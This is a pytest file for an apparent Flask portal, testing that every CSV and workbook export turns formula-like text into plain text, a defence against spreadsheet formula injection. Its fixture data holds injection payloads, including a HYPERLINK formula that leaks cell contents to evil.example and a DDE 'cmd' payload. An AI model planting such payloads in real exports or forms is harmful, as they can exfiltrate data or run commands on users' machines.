"""Every spreadsheet export writes text as text, never as a formula (issue 15, item 3).

Names, titles and the meeting place's name start with each of = + - @, tab and carriage
return. A coordinator then downloads every export, found rather than listed: every GET route
of the URL map is fetched, each response that is a CSV or a workbook is checked, and so is
every link to such a route on the pages (the report's one CSV per table). A route whose path
looks like a download (.csv, .xlsx, "export") must have answered with a spreadsheet, so a new
export cannot slip past with an argument this test does not know. Text that starts with spaces
before such a character is not changed (see portal/exports.py). Also checked: a control
character typed into a title no longer breaks the workbook."""

import csv
import html
import io
import re
import zipfile
from datetime import UTC, datetime, time, timedelta
from urllib.parse import urlsplit

import pytest
from flask import url_for
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from portal.accounts.models import Role
from portal.activities import attendance
from portal.activities import services as activities
from portal.activities.models import Activity, Kind, Session
from portal.exports import append_row, csv_text
from portal.extensions import db, utcnow
from portal.reports.tables import PART

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # the rule, written out again on purpose
CSV, XLSX = "text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Ali")', "+1+1 Sara", "-2+3 Omar",
         "@SUM(1,2) Lina", "\t=1+2 Nour", "\r=1+2 Hassan"]
TITLES = ["=1+1 Svenska", "+cmd|' /C calc'!A0", "-Norsk for nybegynnere", "@Dansk",
          "\t=Arabiska", "\r=Somaliska"]
SITE = "=Tøyen"


@pytest.fixture
def world(make_site, make_user):
    site = make_site(SITE, "NO", "Europe/Oslo")
    coordinator = make_user(Role.COORDINATOR, at=site)
    leader = make_user(Role.VOLUNTEER, at=site)
    # Today 00:00 UTC: already begun, and inside this month wherever the report is made.
    starts = datetime.combine(utcnow().date(), time(0), UTC)
    circles = []
    for title in TITLES:
        circle = activities.create_activity(leader, site, activities.ActivityData(
            kind=Kind.STUDY_CIRCLE, title=title, capacity=10))
        db.session.add(Session(activity_id=circle.id, starts_at=starts,
                               ends_at=starts + timedelta(hours=2)))
        circles.append(circle)
    db.session.commit()
    people = [make_user(at=site, name=name) for name in NAMES]
    for person in people:
        activities.enrol(person, circles[0].id)
    session = circles[0].sessions[0]
    attendance.save(leader, session, {people[0].id: (True, 90)}, None)
    from portal.privacy import consents

    consents.give(people[0], consents.JOB_CENTRE, "nb")  # for the job-centre statement
    return coordinator, {"site_id": site.id, "activity_id": circles[0].id,
                         "session_id": session.id, "user_id": people[0].id}


def fetch_every_export(app, client, ids) -> dict:
    """url → response for every CSV or workbook a coordinator can download."""
    pages, exports = {}, {}
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint == "static":
            continue
        for part in PART if "part" in rule.arguments else [None]:  # each page of the report
            with app.test_request_context():
                url = url_for(rule.endpoint, **{a: ids.get(a, 0) for a in rule.arguments}
                              | ({"part": part} if part else {}))
            response = client.get(url)
            if response.mimetype in (CSV, XLSX):
                exports[url] = response
            elif re.search(r"\.(csv|xlsx)$|export", rule.rule):
                pytest.fail(f"{rule.rule} looks like a download but answered "
                            f"{response.status_code} {response.mimetype}: give it an id here")
            elif response.mimetype == "text/html":
                pages[url] = response.get_data(as_text=True)
    paths = {urlsplit(url).path for url in exports}
    for page in pages.values():
        for link in map(html.unescape, re.findall(r'href="([^"]+)"', page)):
            if urlsplit(link).path in paths and link not in exports:
                exports[link] = client.get(link)
    return exports


def csv_cells(response) -> list[str]:
    text = response.get_data(as_text=True).removeprefix("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def xlsx_cells(response) -> list:
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[\s>/]", archive.read(name)), name  # no formula
    book = load_workbook(io.BytesIO(response.data))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_every_export_writes_such_text_as_text(app, client, world):
    coordinator, ids = world
    client.login(coordinator.email)
    exports = fetch_every_export(app, client, ids)
    endpoints = {app.url_map.bind("bro.test").match(urlsplit(url).path)[0] for url in exports}
    assert endpoints == {"reports.export_csv", "reports.export_xlsx",
                         "activities.attendance_csv",
                         "employment.statement_csv"}  # a new export: check it shows up here
    texts = {}  # export → the texts that were neutralised, as they were before
    for url, response in exports.items():
        assert response.status_code == 200, url
        found = texts.setdefault(urlsplit(url).path, set())
        if response.mimetype == CSV:
            for cell in csv_cells(response):
                assert not cell.startswith(FORMULA_START), (url, cell)
                if cell.startswith("'") and cell[1:].startswith(FORMULA_START):
                    found.add(cell[1:])
        else:
            cells = xlsx_cells(response)
            for cell in cells:
                assert cell.data_type != "f", (url, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert cell.data_type == "s"
                    found.add(cell.value)
                # A workbook is XML, where a carriage return is read back as a line break.
                elif isinstance(cell.value, str) and cell.value.startswith("\n"):
                    found.add("\r" + cell.value[1:])
            assert any(cell.data_type == "n" and cell.value > 0 for cell in cells)  # counts
    activity = ids["activity_id"]
    assert texts[f"/activities/{activity}/attendance-list.csv"] >= set(NAMES)
    assert texts["/reports/export.csv"] >= set(TITLES)
    assert texts["/reports/export.xlsx"] >= {*TITLES, SITE}
    statement = texts[f"/employment/people/{ids['user_id']}/statement.csv"]
    assert statement >= {NAMES[0], TITLES[0], SITE}


def test_numbers_stay_numbers_and_only_text_is_changed():
    assert csv_text([[-5, 2.5, "-5", None, "a-b", " =1", "'=1"]]) == \
        "-5,2.5,'-5,,a-b, =1,'=1\r\n"
    sheet = Workbook().active
    append_row(sheet, [-5, 2.5, "-5", "=1+1", "a\x01b", None])
    assert [(c.value, c.data_type) for c in sheet[1]] == [
        (-5, "n"), (2.5, "n"), ("-5", "s"), ("=1+1", "s"), ("ab", "s"), (None, "n")]


def test_a_control_character_in_a_title_gives_a_workbook_not_a_500(client, login_as):
    login_as(Role.COORDINATOR)
    created = client.post("/activities/new", {"kind": "study_circle", "title": "Kurs\x01 svenska",
                                              "level": "all", "capacity": "5"})
    assert created.status_code == 303  # forms keep such characters
    circle = db.session.scalars(select(Activity)).one()
    starts = datetime.combine(utcnow().date(), time(0), UTC)
    db.session.add(Session(activity_id=circle.id, starts_at=starts,
                           ends_at=starts + timedelta(hours=1)))
    db.session.commit()
    response = client.get("/reports/export.xlsx")
    assert response.status_code == 200
    assert load_workbook(io.BytesIO(response.data))["Activities"]["A2"].value == "Kurs svenska"
